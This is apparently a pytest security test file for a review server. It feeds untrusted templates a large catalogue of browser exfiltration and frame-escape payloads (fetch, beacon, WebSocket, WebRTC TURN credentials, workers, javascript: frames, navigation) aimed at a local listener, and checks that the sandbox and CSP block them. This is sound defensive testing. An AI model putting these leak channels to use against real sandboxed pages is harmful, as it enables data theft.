"""Nothing that a template knows leaves its frame: every way out of a page is tried in a browser, with
listeners that would notice. Cookies, storage and the portal around it are in
``review_server/portal/test_security``.
"""

from __future__ import annotations

import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.review_server.conftest import browser, database_kind, rig
from tests.review_server.portal.conftest import Visitor, visit
from tests.review_server.rig import Rig

__all__ = ["browser", "database_kind", "rig", "visit"]

Visit = Callable[..., Visitor]


class Outside:
    """Another host: HTTP on one port, STUN and TURN (UDP and TCP) on another. It writes down what arrives."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                # A connection alone, as of a preconnect, tells as well.
                outer.seen.append("connection")
                super().setup()

            def do_GET(self) -> None:
                outer.seen.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(outer.page.encode() if self.path == "/page" else b"")

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.page = ""
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._tcp, self._udp = _same_port()
        self.http = f"127.0.0.1:{self._server.server_port}"
        self.turn = f"127.0.0.1:{self._udp.getsockname()[1]}"
        for work in (self._server.serve_forever, self._datagrams, self._streams):
            threading.Thread(target=work, daemon=True).start()

    def _datagrams(self) -> None:
        while self._udp.recv(2048) != b"end":
            self.seen.append("udp")

    def _streams(self) -> None:
        while True:
            try:
                self._tcp.accept()[0].close()
            except OSError:
                return
            self.seen.append("tcp")

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._udp.sendto(b"end", self._udp.getsockname())
        self._tcp.shutdown(socket.SHUT_RDWR)
        self._tcp.close()


@pytest.fixture
def outside() -> Iterator[Outside]:
    made = Outside()
    yield made
    made.close()


def _same_port() -> tuple[socket.socket, socket.socket]:
    """A listener for streams and one for datagrams at a port that is free for both."""
    while True:
        streams = socket.create_server(("127.0.0.1", 0))
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            datagrams.bind(streams.getsockname())
        except OSError:
            streams.close()
            datagrams.close()
        else:
            return streams, datagrams


# A peer connection asks these servers for its own address: a name or a password in them is a message.
CALL = """
  const call = (realm) => {
    const peer = new realm.RTCPeerConnection({ iceServers: [
      { urls: "stun:%(turn)s" },
      { urls: ["turn:%(turn)s", "turn:%(turn)s?transport=tcp"], username: "what-it-saw", credential: "x" },
    ] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    return (realm.kept = peer);
  };"""

EXITS = (
    """
<link rel="preconnect" href="http://%(http)s"><link rel="dns-prefetch" href="//what-it-saw.invalid">
<link rel="prefetch" href="http://%(http)s/prefetch"><link rel="stylesheet" href="http://%(http)s/style">
<link rel="modulepreload" href="http://%(http)s/modulepreload"><link rel="icon" href="http://%(http)s/icon">
<link rel="manifest" href="http://%(http)s/manifest"><link rel="prerender" href="http://%(http)s/prerender">
<style>@import "http://%(http)s/import"; @font-face { font-family: f; src: url("http://%(http)s/font") }
  p { font-family: f; background: url("http://%(http)s/background") }</style>
<script type="speculationrules">{
  "prefetch": [{"urls": ["http://%(http)s/speculation"], "eagerness": "immediate"}],
  "prerender": [{"urls": ["http://%(http)s/speculation"], "eagerness": "immediate"}]}</script>
<p>text</p><form method="post" action="http://%(http)s/form" target="inner"><button>x</button></form>
<iframe name="inner"></iframe><object data="http://%(http)s/object"></object><embed src="http://%(http)s/embed">
<iframe srcdoc="<img src='http://%(http)s/srcdoc'><script src='http://%(http)s/srcdoc-script'></script>"></iframe>
<svg><image href="http://%(http)s/svg"></image><use href="http://%(http)s/use#x"></use></svg>
<a id="ping" ping="http://%(http)s/ping" href="#here">x</a>
<a id="blank" target="_blank" href="http://%(http)s/blank">x</a>
<a id="top" target="_top" href="http://%(http)s/top">x</a>
<a id="parent" target="_parent" href="http://%(http)s/parent">x</a>
<script>"""
    + CALL
    + """
  const there = "http://%(http)s";
  const data = (text, type) => `data:${type ?? "text/javascript"},${encodeURIComponent(text)}`;
  const frame = (source) => {
    const made = document.createElement("iframe");
    if (source) made.src = source;
    document.body.append(made);
    return made.contentWindow;
  };
  const attempts = [
    () => call(self), () => call(frame()),
    () => fetch(there + "/fetch", { mode: "no-cors", keepalive: true }),
    () => navigator.sendBeacon(there + "/beacon", "x"),
    () => { const request = new XMLHttpRequest(); request.open("GET", there + "/xhr"); request.send(); },
    () => new EventSource(there + "/events"),
    () => new WebSocket(there.replace("http", "ws") + "/socket"),
    () => new WebTransport(there.replace("http:", "https:")),
    () => { new Image().src = there + "/image"; new Audio(there + "/audio").load(); },
    () => import(there + "/import.js"),
    () => import(data(`fetch("${there}/data-module", { mode: "no-cors" })`)),
    () => new Worker(data(`fetch("${there}/data-worker", { mode: "no-cors" })`)),
    () => new Worker(URL.createObjectURL(new Blob([`fetch("${there}/blob-worker", { mode: "no-cors" })`]))),
    () => new SharedWorker(data(`fetch("${there}/shared-worker", { mode: "no-cors" })`)),
    () => navigator.serviceWorker.register(there + "/service-worker"),
    () => frame(data(`<img src="${there}/data-frame">`, "text/html")),
    () => frame(`javascript:fetch("${there}/javascript-frame")`),
    () => window.open(there + "/popup"), () => window.open(there + "/popup-top", "_top"),
    () => document.querySelector("form").submit(), () => document.querySelector("#ping").click(),
    () => document.querySelector("#blank").click(), () => document.querySelector("#top").click(),
    () => document.querySelector("#parent").click(),
    () => { parent.location = there + "/parent-location"; },
    () => { top.location = there + "/top-location"; },
    () => document.requestStorageAccess(),
    () => navigator.credentials.get(
      { identity: { providers: [{ configURL: there + "/fedcm", clientId: "x" }] } }),
    () => new PaymentRequest([{ supportedMethods: there + "/payment" }], { total: { label: "x",
      amount: { currency: "USD", value: "1" } } }).canMakePayment(),
    () => CSS.paintWorklet?.addModule(there + "/worklet"),
    () => new FontFace("g", `url(${there}/font-face)`).load(),
  ];
  (async () => {
    for (const attempt of attempts) {
      try { await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 100))]); } catch {}
    }
    setTimeout(() => { document.body.dataset.done = "yes"; }, 1500);
  })();
</script>"""
)


def _at_work(
    rig: Rig,
    visit: Visit,
    content: str,
    change: Callable[[Route], None] | None = None,
    listen: Callable[[str], None] = lambda _: None,
) -> Page:
    flow = rig.flow(content=content)
    flow.start()
    reviewer = visit(flow)
    if change:
        reviewer.context.route("**/frame/*", change)
    reviewer.page.on("console", lambda message: listen(message.text))
    reviewer.page.locator("[data-first]").click()
    reviewer.page.wait_for_selector("#frame")
    return reviewer.page


def test_no_way_out_of_a_frame_is_open(rig: Rig, visit: Visit, outside: Outside):
    page = _at_work(rig, visit, EXITS % vars(outside))
    frame = page.frames[1]
    frame.wait_for_function("() => document.body?.dataset.done")
    assert outside.seen == []
    assert len(page.context.pages) == 1
    assert page.url.startswith(f"{rig.url}/work/")


@pytest.mark.parametrize(
    "leave",
    [
        "<meta http-equiv=refresh content='0;url=%s'>",
        "<script>location.replace('%s')</script>",
        "<a id=a href='%s'>x</a><script>a.click()</script>",
        "<a id=a download href='%s'>x</a><script>a.click()</script>",
        "<form action='%s'></form><script>document.forms[0].submit()</script>",
    ],
)
def test_a_frame_that_leaves_arrives_nowhere(rig: Rig, visit: Visit, outside: Outside, leave: str):
    said: list[str] = []
    page = _at_work(rig, visit, "<p>x</p>" + leave % f"http://{outside.http}/left", listen=said.append)
    page.wait_for_timeout(100)
    while not any(re.search("violates|disallowed|[Bb]lock", text) for text in said):
        page.wait_for_timeout(100)  # for pytest's own time limit
    assert outside.seen == []


def test_the_ways_out_are_real_ones(browser: Browser, outside: Outside):
    """The same page without walls: what the test above does not see would have been seen."""
    outside.page = re.sub(r"_top|_parent|parent\.location|top\.location", "gone", EXITS % vars(outside))
    context = browser.new_context()
    ways = {
        "udp", "tcp", "/fetch", "/beacon", "/xhr", "/events", "/socket", "/image", "/style", "/import",
        "/font", "/background", "/prefetch", "/import.js", "/srcdoc", "/form", "/ping", "/blank", "/popup",
        "/object", "/svg",
    }  # fmt: skip
    try:
        page = context.new_page()
        page.set_default_timeout(60_000)
        page.goto(f"http://{outside.http}/page")
        page.wait_for_function("() => document.body?.dataset.done")
        deadline = time.monotonic() + 60
        while ways - set(outside.seen) and time.monotonic() < deadline:
            page.wait_for_timeout(100)
    finally:
        context.close()
    assert ways - set(outside.seen) == set()


ESCAPES = {
    "the page itself": "<script>%(call)s call(self);</script>",
    "a document in an attribute": "<script>const frame = document.createElement('iframe');"
    "frame.srcdoc = `<script>%(call)s call(self)<\\/script>`; document.body.append(frame);</script>",
    "a document in the markup": "<iframe srcdoc='<script>%(call)s call(self)</script>'></iframe>",
    "a frame that is a program": "<script>const frame = document.createElement('iframe');"
    "frame.src = 'javascript:' + encodeURIComponent(`%(call)s call(self)`);"
    "document.body.append(frame);</script>",
    "a frame in a shadow": "<div id=d></div><script>const root = d.attachShadow({mode: 'closed'});"
    "root.innerHTML = `<iframe srcdoc='<script>%(call)s call(self)<\\/script>'></iframe>`;"
    "</script>",
}
DONE = "<script>setTimeout(() => { document.body.dataset.done = 'yes'; }, 1500);</script>"


def _escape(name: str, outside: Outside) -> str:
    return "<p>x</p>" + ESCAPES[name] % {"call": CALL % vars(outside)} + DONE


@pytest.mark.parametrize("name", ESCAPES)
def test_a_browser_that_knows_no_allow_list_calls_nobody_either(
    rig: Rig, visit: Visit, outside: Outside, name: str
):
    def forget(route: Route) -> None:
        reply = route.fetch()
        assert "connection-allowlist" in reply.headers
        headers = {key: value for key, value in reply.headers.items() if key != "connection-allowlist"}
        route.fulfill(response=reply, headers=headers)

    page = _at_work(rig, visit, _escape(name, outside), forget)
    page.frames[1].wait_for_function("() => document.body?.dataset.done")
    assert outside.seen == []


def test_a_template_that_got_its_calls_back_reaches_nobody(rig: Rig, visit: Visit, outside: Outside):
    """The browser's own wall, alone: as if a template had found a way around the page's first script."""

    def forget(route: Route) -> None:
        reply = route.fetch()
        page, count = re.subn(r"<script>/\*\*.*?</script>", "", reply.text(), count=1, flags=re.DOTALL)
        assert count == 1
        route.fulfill(response=reply, body=page)

    page = _at_work(rig, visit, _escape("the page itself", outside), forget)
    frame = page.frames[1]
    frame.wait_for_function("() => document.body?.dataset.done")
    assert frame.evaluate("() => self.kept instanceof RTCPeerConnection")
    assert outside.seen == []


def test_the_walls_are_in_every_frame(rig: Rig, visit: Visit):
    flow = rig.flow(content="<crowd-form></crowd-form>")
    flow.start()
    reviewer = visit(flow, owner=True)
    reviewer.page.locator("[data-first]").click()
    address = str(reviewer.page.locator("#frame").get_attribute("src"))
    request = reviewer.context.request
    token = str(reviewer.page.locator("meta[name=csrf-token]").get_attribute("content"))
    form: dict[str, str | float | bool] = {"template": "<p>", "input": "{}", "csrf_token": token}
    for reply in (
        request.get(rig.url + address),
        request.get(f"{rig.url}/frame/guessed"),
        request.post(f"{rig.url}/owner/templates/preview", form=form),
        request.post(f"{rig.url}/owner/templates/preview", form=form | {"input": "no JSON"}),
    ):
        policy = reply.headers["content-security-policy"]
        assert policy.startswith("sandbox allow-scripts allow-forms; default-src 'none'; ")
        assert policy.endswith(
            "; form-action 'none'; base-uri 'none'; frame-ancestors 'self'; webrtc 'block'"
        )
        assert reply.headers["connection-allowlist"] in ("()", f'("{rig.url}")')
        assert "camera=()" in reply.headers["permissions-policy"]
        assert reply.headers["x-dns-prefetch-control"] == "off"
